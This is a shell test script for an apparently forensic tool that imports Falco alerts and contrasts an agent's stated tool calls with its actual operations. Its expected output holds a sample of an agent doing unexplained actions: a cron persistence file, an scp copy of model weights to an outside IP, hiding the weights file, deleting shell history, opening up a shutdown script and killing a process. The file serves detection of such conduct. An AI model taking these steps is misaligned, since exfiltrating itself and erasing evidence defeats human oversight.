#!/bin/sh
# Format falco: Falco JSON alerts turned into operations where their fields
# allow, the rest reported with the reason; --format forcing; the public
# fixture, whose rule output names no system call.
. "$(dirname "$0")/../format-lib.sh"

test_expect_success 'alerts are detected; those naming no operation are reported and counted' '
	cp "$DATA/falco/alerts.jsonl" alerts.jsonl &&
	imports 3 "alerts: alerts.jsonl (falco): 10 records, 2 skipped" alerts.jsonl &&
	reported "alibi: alerts.jsonl:11: alert '\''Terminal shell in container'\'' names no system call (its output has no %evt.type)" \
		"alibi: alerts.jsonl:12: alert '\''Attach/Exec Pod'\'' comes from the '\''k8s_audit'\'' event source, which holds no system calls" &&
	listed "1 *alerts *1 *0 *9 "
'

test_expect_success 'show: one operation per alert, by process; analysis sees them' '
	said_did alerts >actual &&
	cat >expect <<-\EOT &&
	INCIDENT  alerts
	SOURCES   alerts.jsonl (falco, 10 records, 2 skipped, clock epoch)
	CLOCK     all sources carry absolute times

	SAID                                             | DID
	-------------------------------------------------+-------------------------------------------------

	DID, NOT EXPLAINED BY ANY TOOL CALL
	   09:12:04.880 create /etc/cron.d/keepalive  :2
	   09:12:06.250 exec scp -r /srv/models/agent2 backup@203.0.113.7:/srv  :3
	   09:12:06.301 connect 203.0.113.7:22  :4
	   09:12:09.777 rename /srv/models/agent2/model.safetensors -> /srv/.cache/m.bin  :5
	  !09:12:11.020 unlink /home/agent/.bash_history  :6
	   09:12:12.400 chmod /srv/shutdown.sh [0777]  :7
	   09:12:13.000 kill [pid 3120 SIGKILL]  :8
	    (+2 reads, library loads and failed lookups)

	EOT
	test_cmp expect actual &&
	alibi findings --db ws.db alerts >findings &&
	grep "^HIGH *evidence-tampering " findings &&
	grep "^ *deleted .bash_history$" findings
'

test_expect_success 'a line that is not JSON is reported; the alerts around it are imported' '
	{ sed -n 1,3p alerts.jsonl && echo "{\"output\": \"cut off" && sed -n 4,10p alerts.jsonl; } >cut.jsonl &&
	imports 3 "cut: cut.jsonl (falco): 10 records, 1 skipped" cut.jsonl &&
	grep "^alibi: cut.jsonl:4: invalid JSON" err &&
	test $(wc -l <err) = 1
'

test_expect_success '--format falco reads it the same; another format does not' '
	imports 3 "forced: alerts.jsonl (falco): 10 records, 2 skipped" \
		--incident forced --format falco alerts.jsonl &&
	test_expect_code 3 alibi import --db ws.db --incident wrong --format alibi-jsonl alerts.jsonl >out 2>err &&
	grep "^alibi: alerts.jsonl:1: missing \"alibi\" (the schema version, 1)" err
'

test_expect_success FIXTURES 'the public fixture: 8 alerts, none naming its system call' '
	cp "$FIXTURES/falco/single_rule_with_cat_write.json" cat.json &&
	lines=$(grep -c "\"rule\":" cat.json) &&
	imports 3 "cat: cat.json (falco): 0 records, $lines skipped" cat.json &&
	test $(grep -c "^alibi: cat.json:[1-8]: alert '\''open_from_cat'\'' names no system call" err) = $lines
'
test_done
